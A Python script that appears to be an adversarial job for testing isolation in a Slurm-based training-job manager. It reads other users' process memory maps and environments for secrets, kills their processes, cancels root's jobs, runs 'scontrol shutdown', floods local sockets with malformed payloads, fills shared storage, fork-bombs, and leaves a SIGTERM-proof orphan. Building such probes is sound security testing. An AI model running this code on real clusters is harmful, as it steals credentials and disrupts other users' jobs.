"""A job that trains nothing and tries what its account lets it.

    attacking_job.py REPORT VICTIM JOBS_DIR STATE_DIR MARK PORTS

It writes what it got to REPORT, as JSON, and then stays: its folder is closed and full of pipes and links, SIGTERM is
blocked, and what it has set free carries MARK in its command line and has nothing else of the job. All is bounded, and
of ports only those are attacked that are named.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

SECRETS = re.compile(rb"PRIVATE KEY|eyJ[A-Za-z0-9_-]{10,}\.|MALLETRAIN_TOKEN|FEED_SECRET|SECRET_KEY=")
FILL_BYTES, FORKS, FORK_SECONDS = 64 << 20, 200, 4.0
GARBAGE = (
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
    b"GET /rank_and_size/host/0 HTTP/1.1\r\n\r\n",
    b"PUT /global/0 HTTP/1.1\r\nContent-Length: 4\r\n\r\nevil",
    b"\x3f" * 64,
    b'{"a":' + b"[" * 20_000,
)
"""What servers of gRPC, Horovod's rendezvous, torch's store and packets of JSON are sent."""


def attempt(action: Callable[[], object]) -> str:
    """What came of it: `done`, or the name of the error."""
    try:
        action()
    except Exception as error:  # noqa: BLE001 - whatever it is, the next attack follows
        return type(error).__name__
    return "done"


def others() -> list[int]:
    """Processes of other accounts, without those of the kernel, which have no command."""
    found = []
    for entry in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            if entry.stat().st_uid != os.getuid() and (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
    return found


def read_processes() -> list[str]:
    """What can be read of others' processes, and what looks like a secret in what everybody can read."""
    got = set()
    reading: dict[str, Callable[[Path], object]] = {
        "environ": lambda place: place.read_bytes(),
        "mem": lambda place: os.close(os.open(place, os.O_RDONLY)) or "opened",
        "fd": lambda place: list(place.iterdir()),
        "cwd": lambda place: place.readlink(),
        "maps": lambda place: place.read_bytes(),
    }
    for pid in others():
        for part, read in reading.items():
            with contextlib.suppress(OSError):
                if read(Path(f"/proc/{pid}", part)):
                    got.add(part)
        with contextlib.suppress(OSError):
            if SECRETS.search(Path(f"/proc/{pid}/cmdline").read_bytes()):
                got.add("secret in cmdline")
    return sorted(got)


def signal_processes() -> list[int]:
    """Others' processes that could be killed."""
    return [pid for pid in others() if attempt(lambda pid=pid: os.kill(pid, signal.SIGKILL)) == "done"]


def read_files(*roots: Path) -> list[str]:
    """Files of others below folders that could be read and hold what looks like a secret, or could be written."""
    found = []
    for root in roots:
        for folder, folders, names in os.walk(root, onerror=lambda _: None):
            folders[:] = folders[:200]
            for name in names[:200]:
                path = Path(folder, name)
                with contextlib.suppress(OSError):
                    if path.lstat().st_uid == os.getuid():
                        continue
                    if os.access(path, os.W_OK) and path.is_file():
                        found.append(f"writable {path}")
                    if path.is_file() and SECRETS.search(path.read_bytes()[:100_000]):
                        found.append(f"secret {path}")
    return found


def call_slurm() -> dict[str, object]:
    """What Slurm's commands do for this account."""
    asked: dict[str, object] = {}

    def run(*command: str) -> tuple[int, str]:
        with contextlib.suppress(subprocess.TimeoutExpired):
            done = subprocess.run(command, capture_output=True, text=True, timeout=20, check=False)
            return done.returncode, done.stdout + done.stderr
        return -1, "no answer"

    code, listed = run("squeue", "--noheader", "--format=%i %u %j")
    asked["squeue"] = code
    jobs = [line.split()[0] for line in listed.splitlines() if line.split()[1:2] == ["root"]]
    asked["jobs of root"] = len(jobs)
    said = [run("scontrol", "show", *what)[1] for what in (["config"], ["job", "-dd"], ["node", "-d"], ["step"])]
    for job in jobs[:10]:
        said += [run("scontrol", "write", "batch_script", job, "-")[1], run("sstat", job)[1]]
        said += [run("scontrol", *words)[1] for words in (["requeue", job], ["hold", job], ["suspend", job])]
        said.append(run("scontrol", "update", f"JobId={job}", "TimeLimit=1")[1])
        said.append(run("scancel", job)[1])
    said.append(run("scancel", "--name=malletrain")[1])
    said.append(run("scontrol", "update", "NodeName=n001", "State=DOWN", "Reason=mine")[1])
    said.append(run("scontrol", "shutdown")[1])
    asked["secrets"] = sorted({match[0].decode() for text in said for match in SECRETS.finditer(text.encode())})
    asked["script of others"] = any("malletrain.agent" in text and "#!/" in text for text in said)
    return asked


def send_to_sockets(ports: list[int], folder: Path) -> dict[str, list[str]]:
    """Connect to all sockets that can be found, and send garbage to those that others serve."""
    reached: dict[str, list[str]] = {"unix": [], "tcp": []}
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        path = line.split()[7] if len(line.split()) > 7 else ""
        if str(folder) not in path and not path.startswith(("@", "/run/malletrain-")):
            continue
        address = "\0" + path[1:] if path.startswith("@") else path
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as one:
                if not path.startswith("@") and Path(path).stat().st_uid == os.getuid():
                    break
                one.settimeout(0.5)
                one.connect(address)
                one.sendall(GARBAGE[-1][:60_000])
                reached["unix"].append(path)
    for port in ports:
        for garbage in GARBAGE:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5) as one:
                one.sendall(garbage)
                one.settimeout(0.1)
                one.recv(100)
                reached["tcp"].append(str(port))
    return reached


def fill() -> None:
    """Fill what all accounts share, for a moment."""
    for place in ("/tmp", "/dev/shm"):
        path = Path(place, f"attack-{os.getpid()}")
        with contextlib.suppress(OSError):
            path.write_bytes(bytes(FILL_BYTES))
            for number in range(2000):
                Path(place, f"malletrain-{os.getpid()}-{number}").touch()
        path.unlink(missing_ok=True)
        for left in Path(place).glob(f"malletrain-{os.getpid()}-*"):
            left.unlink(missing_ok=True)


def fork() -> int:
    """Fork for some seconds without a pause, so many at once; how many there were."""
    forked, deadline = 0, time.monotonic() + FORK_SECONDS
    living: list[int] = []
    while time.monotonic() < deadline:
        if (pid := os.fork()) == 0:
            time.sleep(1)
            os._exit(0)
        forked += 1
        living.append(pid)
        if len(living) >= FORKS:
            for child in living:
                os.waitpid(child, 0)
            living.clear()
    for child in living:
        os.waitpid(child, 0)
    return forked


def spoil(folder: Path) -> None:
    """Replace what is in the job's folder by pipes and links, and close it."""
    for path in list(folder.iterdir()):
        with contextlib.suppress(OSError):
            if path.is_dir() and not path.is_symlink():
                shutil.rmtree(path, ignore_errors=True)
            else:
                path.unlink()
        with contextlib.suppress(OSError):
            if len(path.name) % 2:
                os.mkfifo(path)
            else:
                path.symlink_to("/dev/zero")
    for name in ("outcome.json", "supervisor.json", "completed.json", "logs", "launch.json"):
        with contextlib.suppress(OSError):
            os.mkfifo(folder / name)
    folder.chmod(0)


def set_free(mark: str) -> None:
    """Leave a process behind that nothing leads to: in a session of its own, without environment, deaf to SIGTERM."""
    program = f"import signal, time; '{mark}'; signal.pthread_sigmask(signal.SIG_BLOCK, {{15, 2, 1}}); time.sleep(600)"
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", program], {})
        os._exit(0)
    os.wait()


def main() -> None:
    """Attack, tell, and stay."""
    report, victim, jobs, state, mark, ports = sys.argv[1:]
    told, jobs_dir, state_dir = Path(report), Path(jobs), Path(state)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGTERM, signal.SIGINT, signal.SIGHUP})
    set_free(mark)
    found: dict[str, object] = {
        "list jobs": attempt(lambda: list(jobs_dir.iterdir())),
        "victim's folder": attempt(lambda: list((jobs_dir / victim).iterdir())),
        "victim's token": attempt(lambda: (jobs_dir / victim / "report.token").read_text()),
        "victim's log": attempt(lambda: list((jobs_dir / victim / "logs").iterdir())),
        "replace victim": attempt(lambda: (jobs_dir / victim).rename(jobs_dir / "mine")),
        "keys": attempt(lambda: list((state_dir / "keys").iterdir())),
        "database": attempt(lambda: (state_dir / "job_manager.sqlite").read_bytes()),
        "processes": read_processes(),
        "killed": signal_processes(),
        "files": read_files(Path("/run"), state_dir.parent, Path("/dev/shm")),
        "slurm": call_slurm(),
        "sockets": send_to_sockets([int(port) for port in ports.split(",")], jobs_dir.parent),
    }
    told.write_text(json.dumps(found))
    fill()
    found["forked"] = fork()
    spoil(Path(os.environ["MALLETRAIN_JOB_DIR"]))
    draft = told.with_suffix(".draft")
    draft.write_text(json.dumps(found | {"over": True}))
    draft.rename(told)
    threading.Event().wait(600)


if __name__ == "__main__":
    main()
